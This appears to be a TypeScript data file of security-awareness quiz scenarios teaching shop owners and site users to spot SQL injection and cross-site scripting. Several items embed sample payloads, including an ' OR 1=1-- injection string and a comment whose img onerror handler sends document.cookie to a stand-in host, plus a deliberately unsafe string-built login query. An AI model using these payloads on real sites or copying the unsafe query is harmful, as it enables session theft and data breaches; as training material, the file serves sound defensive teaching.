import type { ScenarioCase } from './types';

/** SQL injection and cross-site scripting, seen by a small shop owner or a site user. */
export const WEB_ATTACK_CASES: readonly ScenarioCase[] = [
  {
    id: 'sql-injection-01',
    fraudId: 'SqlInjection',
    defenseIds: ['InputValidation'],
    medium: 'chat',
    context: 'You own a small online shop. Your freelance developer explains the new login page.',
    body: [],
    lines: [
      { speaker: 'Developer', text: 'Login is done! It takes what the user types and adds it straight into the SQL: SELECT * FROM users WHERE name = \'<typed name>\' AND pass = \'<typed password>\'.' },
      { speaker: 'Developer', text: 'Simple and fast. Nobody would type anything weird in a login box.' },
    ],
    question: 'Is this safe to put live?',
    choices: [
      { id: 'a', label: 'Yes: it is only a login box' },
      { id: 'b', label: 'No: ask for parameterised queries first' },
      { id: 'c', label: 'Yes, if the password field hides the characters' },
    ],
  },
  {
    id: 'sql-injection-02',
    fraudId: 'SqlInjection',
    defenseIds: ['InputValidation', 'NetworkMonitoring'],
    medium: 'web-page',
    context: 'A customer emails you a screenshot of your shop\'s search page.',
    link: 'https://bushveld-biltong.example/search?q=%27%20OR%201%3D1--',
    body: [
      'Search results for: \' OR 1=1--',
      'Database error: You have an error in your SQL syntax near \'\' OR 1=1--\' at line 1',
      'Showing 4,812 customer records',
    ],
    question: 'What do you do?',
    choices: [
      { id: 'a', label: 'Treat it as an urgent security hole and get it fixed now' },
      { id: 'b', label: 'Ask the customer to stop using the search box' },
      { id: 'c', label: 'Ignore it: the customer probably typed something odd by mistake' },
    ],
  },
  {
    id: 'sql-injection-03',
    fraudId: 'SqlInjection',
    defenseIds: ['InputValidation', 'PrincipleOfLeastPrivilege'],
    medium: 'chat',
    context: 'You asked a second developer to review your shop\'s code before launch.',
    body: [],
    lines: [
      { speaker: 'Reviewer', text: 'Good news: every query uses parameters, so typed text is never read as SQL.' },
      { speaker: 'Reviewer', text: 'Inputs are checked against what each field allows, and the shop\'s database user can only read and write its own tables.' },
    ],
    question: 'Is this a sound setup?',
    choices: [
      { id: 'a', label: 'No: only a web firewall can stop SQL injection' },
      { id: 'b', label: 'No: queries should be built by joining strings instead' },
      { id: 'c', label: 'Yes: this is the standard defense' },
    ],
  },
  {
    id: 'xss-01',
    fraudId: 'Xss',
    defenseIds: ['InputValidation', 'UserEducation'],
    medium: 'email',
    context: 'Your personal inbox. You do have a Shopwise account.',
    from: 'Shopwise Deals <deals@shopwise-offers.example>',
    to: 'you@mailbox.example',
    subject: 'Your 50% voucher is waiting',
    link: 'https://shopwise.example/search?q=%3Cscript%20src%3D%2F%2Fcdn-stats.example%2Fs.js%3E%3C%2Fscript%3E',
    body: [
      'Click below to see your personal voucher on Shopwise. You may need to sign in again.',
    ],
    question: 'The link starts with shopwise.example. What do you do?',
    choices: [
      { id: 'a', label: 'Click: the link goes to the real Shopwise site' },
      { id: 'b', label: 'Go to shopwise.example yourself and look for offers' },
      { id: 'c', label: 'Click, but close the page if it asks you to sign in' },
    ],
  },
  {
    id: 'xss-02',
    fraudId: 'Xss',
    defenseIds: ['InputValidation'],
    medium: 'web-page',
    context: 'You moderate comments on your club\'s website. A new comment waits for approval.',
    link: 'https://hiking-club.example/admin/comments/871',
    body: [
      'From: "Trail Fan"',
      'Great hike! Photos here: <img src=x onerror="fetch(\'https://collect.example/?c=\'+document.cookie)">',
    ],
    question: 'What do you do?',
    choices: [
      { id: 'a', label: 'Approve it: the site will just show a broken picture' },
      { id: 'b', label: 'Reject it and tell whoever runs the site' },
      { id: 'c', label: 'Approve it but remove the word "onerror" from it first' },
    ],
  },
  {
    id: 'xss-03',
    fraudId: 'Xss',
    defenseIds: ['InputValidation'],
    medium: 'chat',
    context: 'You run the club\'s website and asked the developer how comments are shown.',
    body: [],
    lines: [
      { speaker: 'Developer', text: 'The site escapes everything people type before showing it, so <script> shows up as text and never runs.' },
      { speaker: 'Developer', text: 'On top of that we send a Content-Security-Policy that only allows our own scripts.' },
    ],
    question: 'Is this a sound setup?',
    choices: [
      { id: 'a', label: 'Yes: escaped output plus a content policy' },
      { id: 'b', label: 'No: comments must be switched off entirely to be safe' },
      { id: 'c', label: 'No: only an antivirus on the server can stop scripts in comments' },
    ],
  },
];
